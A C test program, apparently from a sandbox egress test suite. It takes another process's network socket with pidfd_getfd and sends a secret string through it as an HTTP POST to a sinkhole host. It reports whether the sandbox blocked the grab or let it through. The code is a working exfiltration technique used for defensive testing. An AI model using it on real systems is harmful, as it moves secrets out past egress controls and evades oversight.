// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Sends through another process's connection, taken out of it by pidfd_getfd(2).
 * Known from: pidfd_getfd(2) (Linux 5.6), made for supervisors that act in another's place.
 * First: odd doors (pidfd_getfd)
 * Second: the sinkhole's record of the bytes
 */
#include "trick.h"
#include <signal.h>

int main(void)
{
	int pipes[2], remote = 0, pidfd, fd;
	pid_t owner;

	if (pipe(pipes))
		err(1, "pipe");
	owner = fork();
	if (owner == 0) {
		remote = connected(80);
		if (write(pipes[1], &remote, sizeof(remote)) > 0)
			pause();
		_exit(0);
	}
	if (read(pipes[0], &remote, sizeof(remote)) != sizeof(remote))
		err(1, "read");
	pidfd = syscall(SYS_pidfd_open, owner, 0);
	fd = syscall(SYS_pidfd_getfd, pidfd, remote, 0);
	if (fd < 0)
		blocked();
	dprintf(fd, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 40\r\n\r\n%s", HOST, secret());
	kill(owner, SIGKILL);
	wait(NULL);
	finish(fd);
	performed();
}
